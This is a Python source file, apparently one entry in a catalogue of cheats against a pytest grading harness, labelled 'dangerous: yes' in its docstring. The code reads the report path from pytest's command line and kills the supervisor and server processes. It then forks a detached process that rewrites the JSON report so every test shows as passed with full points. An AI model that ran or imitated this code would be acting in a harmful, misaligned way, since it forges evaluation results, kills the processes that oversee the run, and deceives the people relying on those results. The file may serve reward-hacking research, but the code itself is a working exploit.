"""Finds the path of the report in pytest's command line, gets rid of the processes that would end
it, and writes a perfect report as soon as pytest has written its own.

kata: 03_gather; points: 0; code: DIED, HARNESS, UNPROVEN; dangerous: yes
"""

import json
import os
import select
import signal
import time

from bases.both_cheat import crawl_page, main


def pytest_processes():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                words = file.read().decode().split("\0")
            if "pytest" in words:
                yield words, os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            pass


def parent_of(pid):
    with open(f"/proc/{pid}/stat") as file:
        return int(file.read().rpartition(")")[2].split()[1])


def wait_and_forge(path):
    for _ in range(3_000):
        time.sleep(0.01)
        try:
            with open(path) as file:
                report = json.load(file)
        except (OSError, ValueError):
            continue
        for test in report["tests"]:
            test.update(points=test["max_points"], verdict="passed", code="", message="", explanation="")
        with open(path, "w") as file:
            json.dump(report, file)
        os._exit(0)


def cheat(_):
    time.sleep = sleep
    for words, folder in pytest_processes():
        for word in words:
            if word.startswith("--kata-report="):
                supervisor = os.getppid()
                server = parent_of(supervisor)
                if os.fork() == 0:
                    os.setsid()
                    os.closerange(0, 256)
                    wait_and_forge(os.path.join(folder, word.partition("=")[2]))
                    os._exit(0)
                os.kill(supervisor, signal.SIGKILL)
                os.kill(server, signal.SIGKILL)
                os._exit(1)
    os._exit(1)


def sleep(seconds):
    select.select([], [], [], seconds)
